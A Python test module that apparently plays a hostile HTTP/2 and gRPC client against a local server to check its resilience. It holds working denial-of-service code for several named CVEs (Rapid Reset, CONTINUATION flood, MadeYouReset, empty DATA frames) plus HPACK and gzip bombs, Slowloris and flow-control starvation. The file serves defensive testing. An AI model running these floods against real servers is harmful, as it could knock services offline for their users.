"""What a hostile client does to a front. Each attack returns what became of it, and is over when it returns.

They run in a process of their own. An attack that would be a success raises AssertionError.
"""

from __future__ import annotations

import socket
import ssl
import struct
import time
import zlib
from collections import Counter
from collections.abc import Callable, Iterable, Mapping, Sequence
from contextlib import ExitStack, suppress
from dataclasses import dataclass
from itertools import product

import hpack
from google.protobuf.wrappers_pb2 import BytesValue, Int64Value
from hyperframe.frame import (
    ContinuationFrame,
    ExtensionFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from libs.identity import Identity
from libs.testing import h2

_SAY, _WAIT, _POUR, _SUM = (f"/test.Probe/{name}" for name in ("Say", "Wait", "Pour", "Sum"))
_HELLO = h2.message(BytesValue(value=b"hello").SerializeToString())
_POURING = h2.headers(_POUR)[9:], h2.message(Int64Value(value=1_000_000).SerializeToString())
_MIB = 1024 * 1024
_WAITING = h2.headers(_WAIT)[9:]
_WIDEST = 2**31 - 1
_ERRORS = {
    0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR", 5: "STREAM_CLOSED",
    6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM",
}  # fmt: skip


@dataclass(frozen=True)
class Target:
    """Whom to attack: its port, an identity that it believes, and some that it must not."""

    port: int
    user: Identity
    forged: Mapping[str, Identity]

    def connect(self, receive_buffer: int = 0) -> h2.Connection:
        """A connection of somebody who is believed, greeted."""
        connection = h2.Connection(self.port, self.user, receive_buffer=receive_buffer)
        connection.say(h2.PREFACE)
        return connection


Attack = Callable[[Target, int], str]
"""Target and size → what became of it."""


def calls_without_being_believed(target: Target, _: int) -> str:
    """Calls with each certificate that is not good; names how each was refused."""
    verdicts = [f"{name}: {_call(target, identity)}" for name, identity in target.forged.items()]
    return "; ".join([*verdicts, f"none: {_call(target, None)}"])


def speaks_tls_1_2(target: Target, _: int) -> str:
    """A good certificate over TLS 1.2."""
    return _call(target, target.user, ssl.TLSVersion.TLSv1_2, may_succeed=True)


def speaks_no_tls(target: Target, size: int) -> str:
    """HTTP/1, HTTP/2 in the clear, and noise."""
    for words in (b"GET / HTTP/1.1\r\n\r\n", h2.PREFACE + h2.headers(_SAY, end=True), bytes(range(256)) * 64):
        for _ in range(size):
            with socket.create_connection(("127.0.0.1", target.port)) as plain:
                plain.settimeout(5)
                with suppress(OSError):
                    plain.sendall(words)
                    assert b"hello" not in plain.recv(4096)
    return f"{3 * size} connections closed"


def resets_rapidly(target: Target, size: int) -> str:
    """CVE-2023-44487: begins calls and resets them at once."""
    return _flood(target, (_begun(n) + h2.data(_HELLO, n) + h2.reset(n) for n in _streams(size)))


def makes_the_server_reset(target: Target, size: int) -> str:
    """CVE-2025-8671: begins calls and breaks a rule of each stream, so that the server resets it."""
    broken = (
        _begun(n) + h2.data(_HELLO, n) + WindowUpdateFrame(n, window_increment=_WIDEST).serialize()
        for n in _streams(size)
    )
    return _flood(target, broken)


def updates_windows_by_nothing(target: Target, size: int) -> str:
    """WINDOW_UPDATE of 0 on streams."""
    zero = struct.pack(">I", 0)
    return _flood(
        target,
        (_begun(n) + h2.data(_HELLO, n) + _frame(8, 0, n, zero) for n in _streams(size)),
    )


def overflows_the_window(target: Target, _: int) -> str:
    """WINDOW_UPDATE beyond 2^31 - 1 on the connection."""
    return _flood(target, [WindowUpdateFrame(0, window_increment=_WIDEST).serialize()] * 2)


def floods_settings(target: Target, size: int) -> str:
    """SETTINGS that each want an acknowledgement."""
    return _flood(target, [SettingsFrame(0, settings={4: 65535}).serialize()] * size)


def floods_pings(target: Target, size: int) -> str:
    """PING that each want an answer."""
    return _flood(target, [PingFrame(0, opaque_data=b"01234567").serialize()] * size)


def floods_continuations(target: Target, size: int) -> str:
    """CVE-2024-27316: a header block that never ends."""
    start = HeadersFrame(1, hpack.Encoder().encode([(":method", "POST")])).serialize()
    more = ContinuationFrame(1, b"\x00\x03x-a\x01b" * 16).serialize()
    return _flood(target, [start, *[more] * size])


def floods_empty_continuations(target: Target, size: int) -> str:
    """The same, without a byte in it."""
    start = HeadersFrame(1, hpack.Encoder().encode([(":method", "POST")])).serialize()
    return _flood(target, [start, *[ContinuationFrame(1, b"").serialize()] * size])


def floods_empty_data(target: Target, size: int) -> str:
    """CVE-2019-9518: DATA frames without a byte."""
    return _flood(target, [h2.headers(_SUM), *[h2.data(b"", end=False)] * size])


def floods_priorities(target: Target, size: int) -> str:
    """PRIORITY and frames of a type that nobody knows."""
    priority = PriorityFrame(3, depends_on=1, stream_weight=9).serialize()
    unknown = ExtensionFrame(0xAB, 0, body=bytes(100)).serialize()
    return _flood(target, [priority, unknown] * (size // 2))


def sends_large_headers(target: Target, size: int) -> str:
    """Fields of a megabyte in all, in one block."""
    fields = [(":method", "POST"), (":scheme", "https"), (":path", _SAY), (":authority", "test")]
    fields += [(f"x-{number}", "v" * 8000) for number in range(128)]
    words = _blocks(hpack.Encoder().encode([(*field, True) for field in fields], huffman=False))
    return _in_turn(target, size, words)


def sends_an_hpack_bomb(target: Target, size: int) -> str:
    """One long field in the dynamic table, then 16,000 references to it in one block."""
    plant = b"\x40\x03x-a\x7f" + _integer(3800 - 127) + b"v" * 3800  # literal with indexing: now entry 62
    block = hpack.Encoder().encode([(":method", "POST"), (":scheme", "https"), (":path", _SAY)])
    return _in_turn(target, size, _blocks(block + plant + b"\xbe" * 16000))


def sends_zip_bombs(target: Target, size: int) -> str:
    """60 MiB of zeros each, as 60 KiB of gzip, on many connections at once."""
    deflater = zlib.compressobj(9, zlib.DEFLATED, 31)
    bomb = deflater.compress(bytes(60 * 1024 * 1024)) + deflater.flush()
    body = b"\1" + len(bomb).to_bytes(4) + bomb
    words = h2.headers(_SAY, extra=[("grpc-encoding", "gzip")])
    words += b"".join(h2.data(body[at : at + 16000], end=False) for at in range(0, len(body), 16000))
    with ExitStack() as stack:
        connections = [stack.enter_context(target.connect()) for _ in range(size)]
        for connection in connections:
            connection.say(words + h2.data(b""))
        return _tally(_status(connection) for connection in connections)


def sends_after_the_end(target: Target, size: int) -> str:
    """DATA on streams that it has ended."""
    late = (_begun(n) + h2.data(_HELLO, n) + h2.data(_HELLO, n) for n in _streams(size))
    return _flood(target, late)


def leaves_and_goes_on(target: Target, size: int) -> str:
    """GOAWAY, and new calls behind it."""
    return _flood(
        target,
        [
            GoAwayFrame(0, last_stream_id=0).serialize(),
            *(_begun(n) + h2.data(_HELLO, n) for n in _streams(size)),
        ],
    )


def begins_and_never_ends(target: Target, size: int) -> str:
    """Many streams on many connections whose requests never end; then it leaves."""
    with ExitStack() as stack:
        connections = [stack.enter_context(target.connect()) for _ in range(size)]
        for connection in connections:
            connection.say(
                b"".join(h2.headers(_SAY, n) + h2.data(_HELLO[:3], n, end=False) for n in _streams(400))
            )
        heard = [frame for connection in connections for frame in connection.hear(0.2)]
        refused = sum(isinstance(frame, RstStreamFrame) for frame in heard)
        return f"{400 * size} streams begun, {refused} refused"


def almost_sends_large_messages(target: Target, size: int) -> str:
    """16 messages of 4 MiB on each connection, all but the last byte; then it leaves."""
    body = (4 * _MIB).to_bytes(5) + bytes(4 * _MIB - 1)
    with ExitStack() as stack:
        connections = [stack.enter_context(target.connect()) for _ in range(size)]
        sent = 0
        for connection, n in product(connections, _streams(16)):
            pieces = (h2.data(body[at : at + 16000], n, end=False) for at in range(0, len(body), 16000))
            sent += connection.say(h2.headers(_SAY, n) + b"".join(pieces))
            list(connection.hear(0.05))  # for the connection's window to open again
        closed = sum(bool(connection.closed) for connection in connections)
        return f"{sent // _MIB} MiB sent on {size} connections, {closed} of them closed by the server"


def begins_and_falls_silent(target: Target, size: int) -> str:
    """Slowloris: connections that stop within TLS, the greeting or a header block. When do they end?"""
    frame = h2.headers(_SAY)
    words: Mapping[str, bytes | None] = {
        "no TLS": None,
        "no greeting": b"",
        "half a greeting": h2.PREFACE[:10],
        "half a frame": h2.PREFACE + frame[:20],
        "half a header block": h2.PREFACE + HeadersFrame(1, _WAITING).serialize(),
        "half a request": h2.PREFACE + frame + h2.data(_HELLO[:3], end=False),
        "nothing asked": h2.PREFACE,
    }
    with ExitStack() as stack:
        silent: dict[str, list[socket.socket | h2.Connection]] = {name: [] for name in words}
        for name, said in words.items():
            for _ in range(size):
                if said is None:
                    plain = stack.enter_context(socket.create_connection(("127.0.0.1", target.port)))
                    silent[name].append(plain)
                else:
                    connection = stack.enter_context(h2.Connection(target.port, target.user))
                    connection.say(said)
                    silent[name].append(connection)
        return _how_long(silent)


def never_opens_its_window(target: Target, size: int) -> str:
    """Asks for endless answers on many streams and lets no byte of them through."""
    return _thirsty(target, size, SettingsFrame(0, settings={4: 0}).serialize(), hears=True)


def never_reads(target: Target, size: int) -> str:
    """Opens its windows as wide as can be, asks for endless answers, and never reads."""
    wide = SettingsFrame(0, settings={4: _WIDEST}).serialize()
    wide += WindowUpdateFrame(0, window_increment=_WIDEST - 65535).serialize()
    return _thirsty(target, size, wide, hears=False)


def takes_no_large_answers(target: Target, size: int) -> str:
    """Asks for answers of 4 MB and lets no byte of them through."""
    asks = h2.headers("/test.Probe/Make")[9:], h2.message(Int64Value(value=4_000_000).SerializeToString())
    return _thirsty(target, size, SettingsFrame(0, settings={4: 0}).serialize(), hears=True, asks=asks)


def opens_and_drops(target: Target, size: int) -> str:
    """Connections opened and dropped: by half without TLS, by half after the handshake."""
    for number in range(size):
        if number % 2:
            with suppress(OSError), h2.Connection(target.port, target.user):
                pass
        else:
            with suppress(OSError), socket.create_connection(("127.0.0.1", target.port)):
                pass
    return f"{size} connections"


def fills_the_server(target: Target, size: int) -> str:
    """Holds as many connections as it can get, then lets go of them and calls."""
    with ExitStack() as stack:
        held = 0
        for _ in range(size):
            with suppress(OSError):
                connection = stack.enter_context(h2.Connection(target.port, target.user, patience=1.0))
                connection.say(h2.PREFACE)
                held += any(isinstance(frame, SettingsFrame) for frame in connection.hear(0.2))
    end = time.monotonic() + 10
    while (verdict := _call(target, target.user, may_succeed=True)) != "status 0" and time.monotonic() < end:
        time.sleep(0.1)
    assert verdict == "status 0"
    return f"{held} of {size} got one, and were served again afterwards"


ATTACKS: Sequence[tuple[Attack, int, int]] = (
    (calls_without_being_believed, 1, 20),
    (speaks_tls_1_2, 1, 1),
    (speaks_no_tls, 20, 500),
    (resets_rapidly, 2_000, 100_000),
    (makes_the_server_reset, 2_000, 50_000),
    (updates_windows_by_nothing, 2_000, 50_000),
    (overflows_the_window, 1, 1),
    (floods_settings, 10_000, 200_000),
    (floods_pings, 10_000, 200_000),
    (floods_continuations, 2_000, 100_000),
    (floods_empty_continuations, 10_000, 200_000),
    (floods_empty_data, 10_000, 200_000),
    (floods_priorities, 10_000, 200_000),
    (sends_large_headers, 4, 20),
    (sends_an_hpack_bomb, 4, 20),
    (sends_zip_bombs, 4, 40),
    (sends_after_the_end, 200, 20_000),
    (leaves_and_goes_on, 200, 20_000),
    (begins_and_never_ends, 4, 40),
    (almost_sends_large_messages, 1, 4),
    (never_opens_its_window, 50, 200),
    (never_reads, 50, 200),
    (takes_no_large_answers, 2, 8),
    (opens_and_drops, 300, 10_000),
)
"""Each with its size in `make integration`, and in `make hostile`."""

SLOW: Sequence[tuple[Attack, int]] = ((begins_and_falls_silent, 50),)
"""What is measured by waiting."""


def _call(
    target: Target,
    identity: Identity | None,
    maximum: ssl.TLSVersion = ssl.TLSVersion.TLSv1_3,
    *,
    may_succeed: bool = False,
) -> str:
    try:
        with h2.Connection(target.port, identity, maximum=maximum) as connection:
            connection.say(h2.PREFACE + h2.headers(_SAY) + h2.data(_HELLO))
            status = _status(connection)
    except OSError as error:
        return f"refused in the handshake ({getattr(error, 'reason', None) or type(error).__name__})"
    assert may_succeed or status != "status 0"
    return status


def _status(connection: h2.Connection) -> str:
    """How the first call on a connection ended."""
    decoder, fields = hpack.Decoder(), dict[str, str]()
    for frame in connection.hear(5.0):
        if isinstance(frame, HeadersFrame):
            fields |= {str(key): str(value) for key, value in decoder.decode(frame.data)}
        if isinstance(frame, RstStreamFrame) or "END_STREAM" in frame.flags:
            break
    if "grpc-status" in fields:
        return f"status {fields['grpc-status']}"
    return f"refused in the handshake ({connection.closed})" if connection.closed else "no answer"


def _flood(target: Target, frames: Iterable[bytes]) -> str:
    pieces = list(frames)
    with target.connect() as connection:
        words = b"".join(pieces)
        sent = connection.say(words, 5.0)
        return f"{sent * len(pieces) // len(words)} of {len(pieces)} taken; {_fate(connection)}"


def _in_turn(target: Target, size: int, words: bytes) -> str:
    """A connection each, since the first refusal may end it."""
    fates = []
    for _ in range(size):
        with target.connect() as connection:
            connection.say(words)
            fates.append(_fate(connection))
    return _tally(fates)


def _fate(connection: h2.Connection) -> str:
    """What the server says by itself, and whether it goes on listening."""
    said: list[str] = []
    for frame in connection.hear(0.5):
        if isinstance(frame, GoAwayFrame):
            said.append(f"GOAWAY {_ERRORS.get(frame.error_code, frame.error_code)}")
        elif isinstance(frame, RstStreamFrame):
            said.append(f"reset {_ERRORS.get(frame.error_code, frame.error_code)}")
        elif isinstance(frame, HeadersFrame):
            said.append("answer")
    counted = (f"{count} x {what}" if count > 1 else what for what, count in Counter(said).items())
    return ", ".join([*counted, "closed" if connection.closed else "goes on"])


def _tally(fates: Iterable[str]) -> str:
    return "; ".join(f"{count} times: {fate}" for fate, count in Counter(fates).items())


def _thirsty(
    target: Target, size: int, windows: bytes, *, hears: bool, asks: tuple[bytes, bytes] = _POURING
) -> str:
    with ExitStack() as stack:
        connections = [stack.enter_context(target.connect(receive_buffer=4096)) for _ in range(4)]
        for connection in connections:
            connection.say(windows)
            connection.say(b"".join(_frame(1, 4, n, asks[0]) + h2.data(asks[1], n) for n in _streams(size)))
        end = time.monotonic() + 1.5  # for the server to fill what it would fill
        while time.monotonic() < end:
            for connection in connections if hears else ():
                for _ in connection.hear(0.1):
                    pass
            time.sleep(0.1)
        return f"{4 * size} answers asked for on 4 connections, held"


def _how_long(silent: Mapping[str, Sequence[socket.socket | h2.Connection]]) -> str:
    begun, ended = time.monotonic(), dict[str, float]()
    while len(ended) < len(silent) and time.monotonic() < begun + 45:
        for name, connections in silent.items():
            if name not in ended and all(map(_over, connections)):
                ended[name] = time.monotonic() - begun
        time.sleep(0.5)
    return "; ".join(
        f"{name}: {f'{ended[name]:.0f} s' if name in ended else 'stays 45 s'}" for name in silent
    )


def _over(connection: socket.socket | h2.Connection) -> bool:
    if isinstance(connection, h2.Connection):
        if not connection.closed:
            list(connection.hear(0.001))
        return bool(connection.closed)
    connection.settimeout(0.001)
    try:
        return not connection.recv(4096)
    except TimeoutError:
        return False
    except OSError:
        return True


def _blocks(block: bytes) -> bytes:
    """A header block in as many frames as it needs."""
    pieces = [block[at : at + 16000] for at in range(0, len(block), 16000)]
    frames: list[Frame] = [HeadersFrame(1, pieces[0])]
    frames += [ContinuationFrame(1, piece) for piece in pieces[1:]]
    frames[0].flags.add("END_STREAM")
    frames[-1].flags.add("END_HEADERS")
    return b"".join(frame.serialize() for frame in frames)


def _begun(stream: int) -> bytes:
    """The headers of a call that waits. By the hundred thousand, so made once."""
    return _frame(1, 4, stream, _WAITING)


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + payload


def _integer(value: int) -> bytes:
    encoded = bytearray()
    while value >= 128:
        encoded.append(value & 127 | 128)
        value >>= 7
    return bytes([*encoded, value])


def _streams(size: int) -> range:
    return range(1, 2 * size, 2)
